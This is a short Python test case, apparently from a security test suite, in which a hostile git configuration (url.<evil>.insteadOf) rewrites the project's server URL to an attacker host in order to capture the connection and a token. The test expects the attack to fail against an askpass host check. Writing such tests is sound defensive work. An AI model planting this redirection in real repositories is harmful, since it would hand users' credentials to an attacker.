from pathlib import Path

from tests.attacks.git_world import Places, configure

TITLE = "The project's URL stands for the attacker's"
TRIES = "url.<evil>.insteadOf rewrites every URL of the project's server, an explicit one too."
MUST_FAIL = (
    "Pushed with an explicit URL and no configuration of the agent's; the askpass checks the host."
)
GAINS = ("connection", "token")


def attack(checkout: Path, places: Places) -> None:
    server = places.project.partition("/acme/")[0]
    configure(checkout, f"url.{places.evil}.insteadOf", server)
